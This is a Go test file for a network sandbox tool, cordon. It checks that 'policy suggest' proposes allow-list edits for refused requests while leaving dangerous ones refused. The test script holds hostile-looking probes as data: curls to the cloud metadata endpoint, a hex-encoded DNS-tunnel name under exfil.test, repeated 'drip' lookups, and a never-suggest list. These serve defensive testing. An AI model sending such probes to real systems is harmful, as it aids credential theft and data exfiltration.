//go:build linux

package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPolicySuggest: a real run is refused a host and two kinds of request; cordon policy suggest
// prints the diff that allows exactly those, --write applies it (refused while the file differs from
// the one the run read), and the same script under the edited file reaches everything, as the
// upstreams record. The refusals that must stay refused (a raw IP, the metadata address and its
// name, DNS names shaped like data) are listed apart and appear in no added line.
func TestPolicySuggest(t *testing.T) {
	requireTool(t, "curl")
	requireTool(t, "getent")
	forEachTier(t, func(t *testing.T, h *harness) {
		up := newTLSUpstream(t, h, "x-none", "rules.test")
		plainPort := upstream(t, h.canary)
		body := fmt.Sprintf(`# the team's policy
network:
  allow:
    - {host: rules.test, ports: [%[1]d]}   # our API

  hosts: {rules.test: 127.0.0.1, plain.test: 127.0.0.1, metadata.google.internal: 127.0.0.1}
  tls: {caFile: %[2]q}
  http:
    - host: rules.test
      allow: [{methods: [GET], paths: ["/ok/*"]}]   # reads only
`, up.port, up.caFile)
		polPath := h.policy(body)
		orig := mustRead(t, polPath)
		u := fmt.Sprintf("https://rules.test:%d", up.port)
		code := func(args string) string {
			return fmt.Sprintf("curl -sS -m 10 -o /dev/null -w '%%{http_code}\\n' %s; ", args)
		}
		tunnel := "6f7574206f66207468652073616e64626f7821.exfil.test"
		script := code(u+"/ok/yes") + code(u+"/api/v1/a") + code(u+"/api/v1/b") +
			code("-X POST "+u+"/acme/other.git/git-receive-pack") +
			fmt.Sprintf("curl -sS -m 10 http://plain.test:%d/; ", plainPort) +
			fmt.Sprintf("curl -sS -m 5 http://1.1.1.1:%d/; ", plainPort) +
			"curl -sS -m 5 http://169.254.169.254/latest/meta-data/; " +
			"curl -sS -m 5 http://metadata.google.internal/; " +
			"getent hosts " + tunnel + "; " +
			"for i in $(seq 1 20); do getent hosts q$i.drip.test; done; true"
		run := func() result {
			return h.cordon(nil, "", "run", "--policy", polPath, "--", "sh", "-c", script)
		}
		r := run()
		if lines := strings.Fields(r.stdout); len(lines) < 4 || strings.Join(lines[:4], " ") != "200 403 403 403" {
			t.Fatalf("first run: want the control allowed and three requests refused:\n%s", r)
		}
		if strings.Contains(r.stdout, "UPSTREAM-"+h.canary) {
			t.Fatalf("first run reached plain.test:\n%s", r)
		}

		s := h.cordon(nil, "", "policy", "suggest")
		if s.code != 0 {
			t.Fatalf("policy suggest:\n%s", s)
		}
		for _, want := range []string{
			"--- " + polPath + "\n+++ " + polPath + "\n",
			fmt.Sprintf("+    - {host: plain.test, ports: [%d]}  # opens TCP to plain.test:%d", plainPort, plainPort),
			// network.http's allow list is written in flow style here, as the README writes it: the
			// entries go into it and their comments on lines above.
			`+      allow: [{methods: [GET], paths: ["/ok/*"]}, {methods: [POST], paths: ["/acme/other.git/git-receive-pack"]}, {methods: [GET], paths: ["/api/v1/*"]}]   # reads only`,
			`+      # {methods: [GET], paths: ["/api/v1/*"]}: GET to anything under /api/v1/ (refused: /api/v1/a, /api/v1/b)`,
			`+      # {methods: [POST], paths: ["/acme/other.git/git-receive-pack"]}: POST to /acme/other.git/git-receive-pack: pushing to acme/other`,
			"# not suggested (these stay refused):",
			"1.1.1.1", "169.254.169.254", "metadata.google.internal", tunnel, "drip.test",
		} {
			if !strings.Contains(s.stdout, want) {
				t.Errorf("policy suggest lacks %q:\n%s", want, s.stdout)
			}
		}
		for _, l := range strings.Split(s.stdout, "\n") {
			if !strings.HasPrefix(l, "+") {
				continue
			}
			for _, never := range []string{"1.1.1.1", "169.254", "metadata", "exfil", "drip", "ok/yes"} {
				if strings.Contains(l, never) {
					t.Errorf("the diff suggests %q: %s", never, l)
				}
			}
		}
		if mustRead(t, polPath) != orig {
			t.Fatal("policy suggest without --write changed the file")
		}

		// The file changed since the run: --write refuses and leaves it alone.
		touched := orig + "# a note added after the run\n"
		h.writeFile(polPath, touched, 0o644)
		if w := h.cordon(nil, "", "policy", "suggest", "--write"); w.code == 0 || !strings.Contains(w.stderr, "changed since the run") {
			t.Errorf("--write on a changed file:\n%s", w)
		}
		if mustRead(t, polPath) != touched {
			t.Fatal("--write on a changed file wrote it")
		}
		h.writeFile(polPath, orig, 0o644)

		w := h.cordon(nil, "", "policy", "suggest", "--write")
		if w.code != 0 || !strings.Contains(w.stdout, "# wrote "+polPath) {
			t.Fatalf("policy suggest --write:\n%s", w)
		}
		edited := mustRead(t, polPath)
		for _, keep := range []string{"# the team's policy\n", "   # our API\n", "\n\n  hosts:", "   # reads only\n"} {
			if !strings.Contains(edited, keep) {
				t.Errorf("the edit lost %q:\n%s", keep, edited)
			}
		}
		if c := h.cordon(nil, "", "policy", "check", polPath); c.code != 0 {
			t.Fatalf("the edited policy does not check:\n%s", c)
		}

		// The same script under the edited file: everything suggested is allowed now.
		r = run()
		if lines := strings.Fields(r.stdout); len(lines) < 4 || strings.Join(lines[:4], " ") != "200 200 200 200" {
			t.Errorf("second run: want every request allowed:\n%s", r)
		}
		if !strings.Contains(r.stdout, "UPSTREAM-"+h.canary) {
			t.Errorf("second run did not reach plain.test:\n%s", r)
		}
		var reached []string
		for _, s := range up.requests() {
			reached = append(reached, s.method+" "+s.path)
		}
		for _, want := range []string{"POST /acme/other.git/git-receive-pack", "GET /api/v1/a", "GET /api/v1/b"} {
			if !strings.Contains(strings.Join(reached, "\n"), want) {
				t.Errorf("the upstream never saw %s: %v", want, reached)
			}
		}
		if again := h.cordon(nil, "", "policy", "suggest"); again.code != 0 || !strings.Contains(again.stdout, "refused nothing that a policy edit should allow") {
			t.Errorf("a second suggestion after the edit:\n%s", again)
		}
	})
}

// TestPolicySuggestBuiltinDefault: a run without a policy file (the built-in default, widened by
// --allow) gets the whole file to create, which --write creates where cordon looks for it, once.
func TestPolicySuggestBuiltinDefault(t *testing.T) {
	requireTool(t, "curl")
	forEachTier(t, func(t *testing.T, h *harness) {
		h.cordon(nil, "", "run", "--allow", "a.test", "--", "sh", "-c", "curl -sS -m 5 http://b.test:8081/; true")
		s := h.cordon(nil, "", "policy", "suggest")
		target := filepath.Join(h.home, ".config", "cordon", "policy.yaml")
		if h.who.uid == 0 {
			target = "/etc/cordon/policy.yaml"
		}
		for _, want := range []string{"built-in default", "--- /dev/null\n+++ " + target, "+version: 1\n+network:\n+  allow:\n+    - {host: b.test, ports: [8081]}  # opens TCP to b.test:8081"} {
			if !strings.Contains(s.stdout, want) {
				t.Errorf("policy suggest lacks %q:\n%s", want, s)
			}
		}
		if h.who.uid == 0 {
			// root's file is /etc/cordon/policy.yaml, the host's own: a test writes nothing there.
			return
		}
		if w := h.cordon(nil, "", "policy", "suggest", "--write"); w.code != 0 {
			t.Fatalf("--write:\n%s", w)
		}
		if c := h.cordon(nil, "", "policy", "check"); c.code != 0 || !strings.Contains(c.stdout, "b.test") {
			t.Errorf("the created file does not check:\n%s", c)
		}
		if w := h.cordon(nil, "", "policy", "suggest", "--write"); w.code == 0 || !strings.Contains(w.stderr, "exists now") {
			t.Errorf("a second --write over the created file:\n%s", w)
		}
		if _, err := os.Stat(target); err != nil {
			t.Fatal(err)
		}
	})
}

// TestPolicyImport: the CLI prints the translation of a real srt settings file, which cordon policy
// check accepts as a file; an unknown format is a usage error.
func TestPolicyImport(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, h *harness) {
		src := filepath.Join(h.base, "srt-settings.json")
		h.writeFile(src, mustRead(t, filepath.Join("..", "..", "internal", "policyimport", "testdata", "srt-settings.json")), 0o644)
		r := h.cordon(nil, "", "policy", "import", "--from", "srt", src)
		if r.code != 0 || !strings.Contains(r.stdout, `- {host: "*.npmjs.org", ports: [443]}`) || !strings.Contains(r.stdout, "# Not imported") {
			t.Fatalf("policy import:\n%s", r)
		}
		out := filepath.Join(h.base, "imported.yaml")
		h.writeFile(out, r.stdout, 0o644)
		if c := h.cordon(nil, "", "policy", "check", out); c.code != 0 {
			t.Errorf("the imported policy does not check:\n%s", c)
		}
		if u := h.cordon(nil, "", "policy", "import", "--from", "docker", src); u.code != exitUsage || !strings.Contains(u.stderr, "--from srt or --from claude-code") {
			t.Errorf("an unknown format:\n%s", u)
		}
	})
}
